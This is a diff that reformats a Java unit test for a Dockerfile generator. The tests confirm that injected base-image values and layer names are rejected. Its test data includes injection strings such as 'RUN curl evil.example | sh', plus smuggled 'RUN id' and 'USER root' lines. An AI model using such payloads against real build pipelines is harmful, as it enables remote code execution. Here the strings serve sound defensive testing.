@@ -11,10 +11,14 @@ import org.junit.jupiter.api.Test;
 class GeneratedImageTest {
     @Test
     void aBaseImageThatWouldAddDockerfileInstructionsIsRefusedNamingTheSetting() {
-        for (String evil : List.of("eclipse-temurin:17-jre\nRUN curl evil.example | sh", "eclipse-temurin:17-jre RUN id",
-                "eclipse-temurin:17-jre\rUSER root", "x\tAS y")) {
+        for (String evil : List.of(
+                "eclipse-temurin:17-jre\nRUN curl evil.example | sh",
+                "eclipse-temurin:17-jre RUN id",
+                "eclipse-temurin:17-jre\rUSER root",
+                "x\tAS y")) {
             assertThatThrownBy(() -> new GeneratedImage(evil + " ", 8080, "prod", null))
-                    .as(evil).isInstanceOf(GuliException.class)
+                    .as(evil)
+                    .isInstanceOf(GuliException.class)
                     .hasMessageContaining("baseImage '")
                     .hasMessageContaining("is not an image reference");
         }
@@ -33,13 +37,16 @@ class GeneratedImageTest {
         String digest = "sha256:" + "ab".repeat(32);
         assertThat(BaseImage.parse("localhost:5000/jre:17@" + digest, "baseImage"))
                 .isEqualTo(new BaseImage("localhost:5000", "jre", digest));
-        assertThat(new GeneratedImage(null, 8080, "prod", null).baseImage()).isEqualTo(GeneratedImage.DEFAULT_BASE_IMAGE);
+        assertThat(new GeneratedImage(null, 8080, "prod", null).baseImage())
+                .isEqualTo(GeneratedImage.DEFAULT_BASE_IMAGE);
     }
 
     @Test
     void aLayerNameNeverReachesTheDockerfileUnchecked() {
-        assertThatThrownBy(() -> GeneratedImage.DEFAULTS.dockerfile("app.jar", List.of("application", "x/ /\nRUN id #"),
-                "org.springframework.boot.loader.launch.JarLauncher"))
+        assertThatThrownBy(() -> GeneratedImage.DEFAULTS.dockerfile(
+                        "app.jar",
+                        List.of("application", "x/ /\nRUN id #"),
+                        "org.springframework.boot.loader.launch.JarLauncher"))
                 .hasMessageContaining("names a layer 'x/ /\nRUN id #'");
     }
 }
